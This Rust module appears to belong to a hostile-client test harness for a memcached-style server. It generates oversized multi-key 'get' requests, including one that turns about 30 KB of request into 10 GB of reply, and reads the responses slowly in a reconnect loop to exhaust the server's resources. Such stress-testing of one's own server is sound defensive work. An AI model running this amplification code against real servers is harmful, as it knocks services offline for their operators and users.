//! Gets of very many keys in one line.

use std::time::Duration;

use super::context::AttackContext;
use crate::hostile::bait::LARGE;

/// Keys of a large get.
const MANY: usize = 10_000;

/// Keys of one byte that a line of 1 MiB has room for.
const TINY: usize = 524_000;

/// Bytes of a reply that are read before the next request.
const BETWEEN: Duration = Duration::from_millis(200);

/// Gets with keys of the usual length, a tenth of which exist.
pub(super) fn many(context: &AttackContext<'_>, number: u32) {
    let name = |place: usize| format!("~many:{number}:{place:032}");
    let mut line = b"get".to_vec();
    let mut sets = Vec::new();
    for place in 0..MANY {
        line.extend_from_slice(format!(" {}", name(place)).as_bytes());
        if place % 10 == 0 {
            sets.extend_from_slice(format!("set {} 0 0 4\r\nmany\r\n", name(place)).as_bytes());
        }
    }
    line.extend_from_slice(b"\r\n");
    let Some(mut connection) = context.connect() else {
        return;
    };
    if connection.send(&sets) {
        context.pause(BETWEEN);
        context.count_requests(MANY as u64 / 10);
    }
    drop(connection);
    ask(context, &line, Duration::ZERO);
}

/// Gets with as many keys as a line has room for.
pub(super) fn tiny(context: &AttackContext<'_>) {
    let mut line = b"get".to_vec();
    for place in 0..TINY {
        line.extend([b' ', b"abcdefghijklmnopqrstuvwxyz"[place % 26]]);
    }
    line.extend_from_slice(b"\r\n");
    ask(context, &line, Duration::ZERO);
}

/// One large value, many times: 10 GB of reply to 30 KB of request.
pub(super) fn repeated(context: &AttackContext<'_>) {
    let line = format!("get{}\r\n", format!(" {LARGE}").repeat(MANY));
    ask(context, line.as_bytes(), Duration::from_millis(10));
}

/// Sends `line`, reads the reply 64 KB at a time with `pause` between, and asks again.
fn ask(context: &AttackContext<'_>, line: &[u8], pause: Duration) {
    let mut chunk = vec![0; 64 * 1024];
    while !context.is_over() {
        let Some(mut connection) = context.connect() else {
            continue;
        };
        while connection.send(line) {
            context.count_requests(1);
            let mut tail = Vec::new();
            let ended = loop {
                let Some(length) = connection.receive(&mut chunk) else {
                    break false;
                };
                if context.is_over() {
                    break false;
                }
                // The end of the reply, or an error in its place.
                tail.extend_from_slice(&chunk[..length]);
                tail.drain(..tail.len().saturating_sub(256));
                if tail.ends_with(b"END\r\n") || is_error(&tail) {
                    break true;
                }
                context.pause(pause);
            };
            if !ended {
                break;
            }
            context.pause(BETWEEN);
        }
        // A client that is refused at once does not come again at once.
        context.pause(BETWEEN);
    }
}

fn is_error(tail: &[u8]) -> bool {
    let Some(line) = tail.strip_suffix(b"\r\n") else {
        return false;
    };
    let start = line
        .iter()
        .rposition(|&byte| byte == b'\n')
        .map_or(0, |end| end + 1);
    [&b"SERVER_ERROR"[..], b"CLIENT_ERROR", b"ERROR"]
        .iter()
        .any(|word| line[start..].starts_with(word))
}
